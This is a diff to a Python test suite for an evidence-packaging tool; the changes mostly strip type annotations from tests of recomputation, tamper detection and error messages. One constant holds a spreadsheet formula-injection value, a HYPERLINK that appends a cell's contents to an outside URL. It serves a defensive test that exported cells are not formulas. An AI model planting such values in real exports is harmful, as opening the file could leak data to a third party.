@@ -8,7 +8,6 @@ import re
 import shutil
 import subprocess
 from base64 import b64decode
-from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
 
@@ -16,12 +15,10 @@ import pytest
 from sqlalchemy import text
 
 from datasets.errors import CaseDamaged, CaseExists, PackageDamaged, ResultError, UsageError
-from datasets.registry import Registry
 from evidence.answer.case import read_case
 from evidence.answer.package import COUNTED, recompute, write_package, write_tables
 from evidence.answer.question import Question
 from evidence.answer.report import render_answer
-from evidence.case.case import Case
 from evidence.case.pack import pack
 from evidence.case.queue import FootageSource, add_work
 from evidence.case.tables import Item
@@ -54,15 +51,7 @@ def made() -> dict[str | None, Path]:
 
 
 @pytest.fixture
-def package(
-    case: Case,
-    database: str | None,
-    registry: Registry,
-    b: Builder,
-    made: dict[str | None, Path],
-    tmp_path: Path,
-    tmp_path_factory: pytest.TempPathFactory,
-) -> Path:
+def package(case, database, registry, b, made, tmp_path, tmp_path_factory) -> Path:
     kind = database and "postgresql"
     if kind not in made:
         fill(b)
@@ -73,7 +62,7 @@ def package(
     return shutil.copytree(made[kind], tmp_path / "package")
 
 
-def test_every_number_comes_out_the_same(package: Path) -> None:
+def test_every_number_comes_out_the_same(package):
     found, differences, *_ = recompute(package)
     assert differences == []
     assert found.counts.confirmed == 12
@@ -83,7 +72,7 @@ def test_every_number_comes_out_the_same(package: Path) -> None:
 
 
 @ON_SQLITE
-def test_a_number_that_was_changed_is_found(package: Path) -> None:
+def test_a_number_that_was_changed_is_found(package):
     import bagit
 
     file = package / "data" / "answer.json"
@@ -127,16 +116,14 @@ def contradict(package: Path, *statements: str) -> None:
     ],
     ids=["log", "items", "analyses", "names", "machines"],
 )
-def test_a_case_in_it_that_contradicts_itself_is_found(
-    package: Path, statement: str, told: str
-) -> None:
+def test_a_case_in_it_that_contradicts_itself_is_found(package, statement, told):
     contradict(package, statement)
     otherwise = recompute(package).differences
     assert any(told in line for line in otherwise), otherwise
 
 
 @ON_SQLITE
-def test_what_an_answer_was_computed_from_is_compared_too(package: Path) -> None:
+def test_what_an_answer_was_computed_from_is_compared_too(package):
     import bagit
 
     file = package / "data" / "answer.json"
@@ -150,9 +137,7 @@ def test_what_an_answer_was_computed_from_is_compared_too(package: Path) -> None
     assert number == f"facts.verdicts: {verdicts + 1} in the package, {verdicts} computed"
 
 
-def test_no_package_is_made_of_a_case_that_contradicts_itself(
-    case: Case, registry: Registry, b: Builder, tmp_path: Path
-) -> None:
+def test_no_package_is_made_of_a_case_that_contradicts_itself(case, registry, b, tmp_path):
     """An item stands as if more people had judged it than did."""
     b.add("Plant 1", claim="dmtg", outcome="accept")
     judge_all(b.session)
@@ -193,9 +178,7 @@ def add(file: Path) -> None:
     ],
     ids=lambda value: value if isinstance(value, str) else value.__name__,
 )
-def test_a_package_that_is_not_what_it_was(
-    package: Path, harm: Callable[[Path], None], file: str, told: str
-) -> None:
+def test_a_package_that_is_not_what_it_was(package, harm, file, told):
     harm(package / file)
     with pytest.raises(PackageDamaged, match="not what it was") as raised:
         recompute(package)
@@ -204,8 +187,8 @@ def test_a_package_that_is_not_what_it_was(
 
 @pytest.mark.parametrize("harm", [alter, Path.unlink])
 def test_a_picture_that_is_no_longer_what_it_was_is_told_of_and_not_shown(
-    case: Case, registry: Registry, b: Builder, tmp_path: Path, harm: Callable[[Path], None]
-) -> None:
+    case, registry, b, tmp_path, harm
+):
     pictures = [encoded(number, "JPEG") for number in range(2)]
     kept, lost = map(case.put_still, pictures)
 
@@ -228,7 +211,7 @@ def test_a_picture_that_is_no_longer_what_it_was_is_told_of_and_not_shown(
         assert f"no longer what it was: best <code>{lost[:12]}</code>" in page
 
 
-def test_any_program_checks_it(package: Path) -> None:
+def test_any_program_checks_it(package):
     for manifest in ("tagmanifest-sha256.txt", "manifest-sha256.txt"):
         subprocess.run(
             ["sha256sum", "--check", "--strict", "--quiet", manifest], cwd=package, check=True
@@ -240,7 +223,7 @@ def read_table(package: Path, name: str) -> list[dict[str, str]]:
         return list(csv.DictReader(file))
 
 
-def test_a_number_is_followed_to_its_footage(package: Path) -> None:
+def test_a_number_is_followed_to_its_footage(package):
     counted = read_table(package, "counted")
     assert len(counted) == 36
     confirmed = [one for one in counted if one["settled"] == one["hit"] == "true"]
@@ -253,7 +236,7 @@ def test_a_number_is_followed_to_its_footage(package: Path) -> None:
         assert shown and shown <= originals and shown & judged
 
 
-def test_it_says_what_it_is_in_plain_words(package: Path) -> None:
+def test_it_says_what_it_is_in_plain_words(package):
     data = package / "data"
     words = (data / "README.txt").read_text("utf-8")
     files = [path.relative_to(data).as_posix() for path in data.rglob("*") if path.is_file()]
@@ -266,7 +249,7 @@ def test_it_says_what_it_is_in_plain_words(package: Path) -> None:
 FORMULA = '=HYPERLINK("http://example.org/?" & A1, "Plant 1")'
 
 
-def test_no_cell_is_a_formula(case: Case, b: Builder, tmp_path: Path) -> None:
+def test_no_cell_is_a_formula(case, b, tmp_path):
     b.add(FORMULA, claim="mazak")
     b.add("-2", claim="haas")
     b.write()
@@ -282,9 +265,7 @@ def test_no_cell_is_a_formula(case: Case, b: Builder, tmp_path: Path) -> None:
     )  # fmt: skip
 
 
-def test_what_waits_to_be_looked_at_waits_in_a_package_too(
-    case: Case, registry: Registry, b: Builder, tmp_path: Path
-) -> None:
+def test_what_waits_to_be_looked_at_waits_in_a_package_too(case, registry, b, tmp_path):
     """Opening a pack sets it aside, and what could not be looked at holds up no "None"."""
     fill(b)
     b.write()
@@ -297,26 +278,24 @@ def test_what_waits_to_be_looked_at_waits_in_a_package_too(
     assert recompute(tmp_path / "package").differences == []
 
 
-def test_nothing_is_written_over(package: Path, case: Case, registry: Registry) -> None:
+def test_nothing_is_written_over(package, case, registry):
     with pytest.raises(CaseExists):
         write_package(case, Question(), registry, package)
 
 
-def test_what_is_no_package(tmp_path: Path) -> None:
+def test_what_is_no_package(tmp_path):
     with pytest.raises(UsageError, match="no package"):
         recompute(tmp_path)
 
 
-def test_a_full_disk_under_a_table_is_told(case: Case, tmp_path: Path) -> None:
+def test_a_full_disk_under_a_table_is_told(case, tmp_path):
     (tmp_path / "counted.csv").symlink_to("/dev/full")
     told = r"counted.csv: it could not be written \(No space left on device\); free some space$"
     with case.session() as session, pytest.raises(ResultError, match=told):
         write_tables(session, [], tmp_path)
 
 
-def test_what_cannot_be_written_says_what_to_do(
-    case: Case, registry: Registry, tmp_path: Path
-) -> None:
+def test_what_cannot_be_written_says_what_to_do(case, registry, tmp_path):
     (tmp_path / "file").write_text("", "utf-8")
     told = "file/answer: it could not be written .*; move away what is in its way$"
     with pytest.raises(ResultError, match=told):
